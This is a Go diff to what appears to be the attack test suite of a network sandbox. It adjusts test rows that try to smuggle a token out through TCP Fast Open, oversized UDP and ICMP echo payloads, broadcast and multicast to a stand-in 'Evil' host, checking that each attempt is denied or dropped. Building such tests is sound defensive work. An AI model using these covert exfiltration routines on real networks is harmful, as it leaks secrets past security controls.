@@ -39,7 +39,11 @@ func unprivilegedRows() []Row {
 				if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_NO_COOKIE, 1); err != nil {
 					return err
 				}
-				return unix.Sendto(fd, []byte(a.Token), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: 80, Addr: Evil.As4()})
+				if err := unix.Sendto(fd, []byte(a.Token), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: 80, Addr: Evil.As4()}); err != nil {
+					return err
+				}
+				_, err = unix.Read(fd, make([]byte, 16)) // the answer, or the refusal
+				return err
 			},
 		},
 		{
@@ -69,7 +73,7 @@ func unprivilegedRows() []Row {
 					return err
 				}
 				defer unix.Close(fd)
-				return unix.Sendto(fd, []byte(a.Token), 0, &unix.SockaddrInet4{Port: 7, Addr: Shop.As4()})
+				return errors.Join(unix.Sendto(fd, []byte(a.Token), 0, &unix.SockaddrInet4{Port: 7, Addr: Shop.As4()}), a.linger())
 			},
 		},
 		{
@@ -88,7 +92,7 @@ func unprivilegedRows() []Row {
 				if err == nil && n != 2 {
 					err = fmt.Errorf("%d of 2 datagrams", n)
 				}
-				return err
+				return errors.Join(err, a.linger())
 			},
 		},
 		{
@@ -103,8 +107,7 @@ func unprivilegedRows() []Row {
 				if err := control(c, func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_UDP, unix.UDP_SEGMENT, len(a.Token)) }); err != nil {
 					return err
 				}
-				_, err = c.Write(bytes.Repeat([]byte(a.Token), 20))
-				return err
+				return outcry(c, bytes.Repeat([]byte(a.Token), 20))
 			},
 		},
 		{
@@ -116,8 +119,7 @@ func unprivilegedRows() []Row {
 					return err
 				}
 				defer c.Close()
-				_, err = c.Write(append(make([]byte, 65507-len(a.Token)), a.Token...))
-				return err
+				return outcry(c, append(make([]byte, 65507-len(a.Token)), a.Token...))
 			},
 		},
 		{
@@ -187,13 +189,15 @@ func unprivilegedRows() []Row {
 			Source: "nono #909; security.md 2.4", Lacks: lacksPing, Prepare: tokenOnWire, Harm: onWire(1),
 			Lifted: []string{"--mode", "enforce", "--allow", Evil.String() + "/icmp"},
 			Record: deniedAt(Evil, "protocol=icmp"),
-			Attack: func(a *Attacker) error { return ping(Evil, []byte(a.Token)) },
+			Attack: func(a *Attacker) error { return ping(Evil, []byte(a.Token), true) },
 		},
 		{
 			ID: "packets/huge-echo", Vector: "echo requests of 30,000 octets to a server that may be pinged", Right: "echo is for seeing who is there: dropped and counted",
 			Source: "security.md 2.4", Lacks: lacksPing, Prepare: tokenOnWire, Harm: onWire(1),
-			Rules: []string{"--mode", "enforce", "--allow", Shop.String() + "/icmp"}, Record: dropped("drop-icmp-size"),
-			Attack: func(a *Attacker) error { return ping(Shop, append([]byte(a.Token), make([]byte, 30_000)...)) },
+			Rules: []string{"--mode", "enforce", "--allow", Shop.String() + "/icmp", "--allow", Shop.String() + ":7"}, Record: dropped("drop-icmp-size"),
+			Attack: func(a *Attacker) error {
+				return errors.Join(ping(Shop, append([]byte(a.Token), make([]byte, 30_000)...), false), a.linger())
+			},
 		},
 		{
 			ID: "packets/inbound", Vector: "listen on every address and be called from the internet", Right: "nothing comes in that was not published",
@@ -231,7 +235,7 @@ func groupRows() []Row {
 			}
 			defer c.Close()
 			_, err = io.WriteString(c, a.Token)
-			return err
+			return errors.Join(err, a.linger())
 		}
 	}
 	broadcast := func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1) }
@@ -262,7 +266,7 @@ func groupRows() []Row {
 				defer unix.Close(fd)
 				err = unix.SetsockoptIPMreq(fd, unix.SOL_IP, unix.IP_ADD_MEMBERSHIP, &unix.IPMreq{Multiaddr: [4]byte(groupOf(a.Token))})
 				time.Sleep(100 * time.Millisecond) // the report is sent a moment later
-				return err
+				return errors.Join(err, a.linger())
 			},
 		},
 	}
@@ -304,15 +308,23 @@ func (s *Stage) callIn() error {
 	return nil
 }
 
-// ping sends one echo request by a ping socket.
-func ping(to netip.Addr, payload []byte) error {
+// ping sends one echo request by a ping socket, and may wait for what becomes of it.
+func ping(to netip.Addr, payload []byte, wait bool) error {
 	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
 	if err != nil {
 		return err
 	}
 	defer unix.Close(fd)
 	unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 1<<18)
-	return unix.Sendto(fd, append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, payload...), 0, &unix.SockaddrInet4{Addr: to.As4()})
+	if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: to.As4()}); err != nil {
+		return err
+	}
+	if _, err := unix.Write(fd, append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, payload...)); err != nil || !wait {
+		return err
+	}
+	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: int64(patience / time.Second)})
+	_, err = unix.Read(fd, make([]byte, 1500))
+	return err
 }
 
 // lacksPing lets everybody on the host ping, if that can be done.
